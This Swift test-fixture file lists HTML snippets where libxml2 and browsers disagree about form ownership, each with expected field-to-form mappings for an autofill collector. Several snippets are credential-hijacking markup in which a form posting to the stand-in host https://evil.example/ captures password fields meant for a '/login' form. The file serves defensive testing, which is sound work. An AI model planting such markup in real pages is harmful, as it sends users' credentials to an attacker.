import FormFillModel

/// Markup that libxml2's HTML parser and a browser's read differently, where the difference decides which boxes
/// and forms a page has and where a form's data goes: a `<form>` start tag while the form before it has no
/// `</form>` (a browser ignores it and keeps its controls in the first form), controls after an element end
/// that closed the form in libxml2's tree (a browser keeps them in it), and content a browser reads as text.
/// Each page is checked against its expected `name=form` list in the Swift collector (`FieldKeyTests`) and in
/// collect.js in Chromium (`CollectBrowserTests`), so that the two agree with each other and with a browser.
package enum ParserDifferenceSnippets {
    package struct Page: Sendable {
        package var name: String
        package var html: String
        /// `name=formID` per collected control in the token's order (`-` for none).
        package var owners: [String]
        /// The ids of the page's forms.
        package var forms: [String]
        /// Whether the page leaves the rest of the document text (an unclosed `<xmp>` or `<textarea>`): the
        /// harness that runs collect.js in Chromium appends its script to the page, where it would be text too.
        package var endsInText = false
    }

    /// `name=formID` per control of a collected page (``Page/owners``).
    package static func owners(_ details: PageDetails) -> [String] {
        details.fields.map { field in
            (field.htmlName ?? "") + "=" + (field.form.flatMap { details.form($0)?.htmlID } ?? "-")
        }
    }

    package static let pages: [Page] = [
        Page(name: "a form start tag inside an open form",
             html: #"<form id=a action="https://evil.example/"><form id=b action="/login"><input name=u><input name=p type=password></form></form>"#,
             owners: ["u=a", "p=a"], forms: ["a"]),
        Page(name: "a form start tag after a form closed by its parent's end tag",
             html: #"<div><form id=a action="https://evil.example/"></div><form id=b action="/login"><input name=u><input name=p type=password></form>"#,
             owners: ["u=a", "p=a"], forms: ["a"]),
        Page(name: "controls after a form closed by its parent's end tag",
             html: #"<div><form id=a action="https://evil.example/"></div><input name=u><input name=p type=password><button name=go>Go</button>"#,
             owners: ["u=a", "p=a", "go=a"], forms: ["a"]),
        Page(name: "a stray </form> ends the pointer",
             html: #"<div><form id=a action="https://evil.example/"></div></form><form id=b action="/login"><input name=u></form>"#,
             owners: ["u=b"], forms: ["a", "b"]),
        Page(name: "a </form> in a comment ends nothing",
             html: #"<div><form id=a></div><!-- </form> --><form id=b><input name=u></form>"#,
             owners: ["u=a"], forms: ["a"]),
        Page(name: "a </form> in an attribute value ends nothing",
             html: #"<div><form id=a></div><span title="</form>">x</span><form id=b title='</form>'><input name=u></form>"#,
             owners: ["u=a"], forms: ["a"]),
        Page(name: "a </form> in a script ends nothing",
             html: #"<div><form id=a></div><script>var s = "</form>";</script><form id=b><input name=u></form>"#,
             owners: ["u=a"], forms: ["a"]),
        Page(name: "a </form> in the ignored form's own attribute ends nothing",
             html: #"<form id=a><form id=b title="</form>"><input name=u></form><input name=v>"#,
             owners: ["u=a", "v=-"], forms: ["a"]),
        Page(name: "well-formed forms in a row",
             html: #"<form id=a><input name=u></form><form id=b><input name=v></form><input name=w>"#,
             owners: ["u=a", "v=b", "w=-"], forms: ["a", "b"]),
        Page(name: "a form around table rows",
             html: #"<table><form id=a><tr><td><input name=u></td></tr></form></table><input name=v>"#,
             owners: ["u=a", "v=-"], forms: ["a"]),
        Page(name: "a form in a paragraph",
             html: #"<p><form id=a></p><div><input name=u></div></form><input name=v>"#,
             owners: ["u=a", "v=-"], forms: ["a"]),
        Page(name: "a </form> that libxml2 ignores while a box inside the form is open",
             html: #"<form id=a><div></form><input name=u></div><p>x<input name=v></p>"#,
             owners: ["u=a", "v=-"], forms: ["a"]),
        Page(name: "boxes after a </form> that libxml2 ignored, once the boxes inside the form are closed",
             html: #"<div><form id=a><div></form></div><p><input name=v></p><form id=b><input name=w></form></div>"#,
             owners: ["v=-", "w=b"], forms: ["a", "b"]),
        Page(name: "a form written in SVG is no form pointer",
             html: #"<svg><form id=a action="/search"></svg><form id=b action="https://evil.example/"><input name=u></form>"#,
             owners: ["u=b"], forms: ["b"]),
        Page(name: "a form in an SVG foreignObject is HTML, and its pointer outlives the SVG",
             html: #"<svg><foreignObject><form id=a action="https://evil.example/"></foreignObject></svg><form id=b><input name=u></form>"#,
             owners: ["u=a"], forms: ["a"]),
        Page(name: "a </form> in a template's content leaves the pointer alone",
             html: #"<form id=a action="https://evil.example/"><template><form id=t><input name=z></form></template><form id=b action="/login"><input name=u></form>"#,
             owners: ["u=a"], forms: ["a"]),
        Page(name: "boxes after an <xmp> that libxml2 closed at a form start tag",
             html: #"<xmp><form id=x><input name=a></xmp><textarea name=t>x</textarea><input name=u>"#,
             owners: ["u=-", "t=-"], forms: []),
        Page(name: "a </form> that libxml2 obeys while an inline box opened in the form is open",
             html: #"<form id=a action="https://evil.example/"><span></form><input name=u><input name=p type=password>"#,
             owners: ["u=a", "p=a"], forms: ["a"]),
        Page(name: "a login form inside an <xmp>",
             html: #"<xmp><form id=a><input name=u><input name=p type=password></form></xmp><input name=v>"#,
             owners: ["v=-"], forms: []),
        Page(name: "a login form after an unclosed <xmp>",
             html: #"<xmp>Sample:<p><form id=a><input name=u><input name=p type=password></form><input name=v>"#,
             owners: [], forms: [], endsInText: true),
        Page(name: "a login form inside a <title> in the body",
             html: #"<title><body><form id=a><input name=u></form></title><input name=v>"#,
             owners: ["v=-"], forms: []),
        Page(name: "a login form inside a <style> in the body",
             html: #"<style><body><form id=a><input name=u></form></style><input name=v>"#,
             owners: ["v=-"], forms: []),
        Page(name: "a login form inside an <iframe>'s content",
             html: #"<iframe><div><form id=a><input name=u></form></div></iframe><input name=v>"#,
             owners: ["v=-"], forms: []),
        Page(name: "a login form after an unclosed <textarea>",
             html: #"<textarea name=t><table><form id=a><input name=u><input name=p type=password></form>"#,
             owners: ["t=-"], forms: [], endsInText: true),
        Page(name: "a <textarea> ends at its own end tag",
             html: #"<form id=a><textarea name=t>See <b>this</b></textarea><input name=u></form>"#,
             owners: ["u=a", "t=a"], forms: ["a"]),
    ]
}
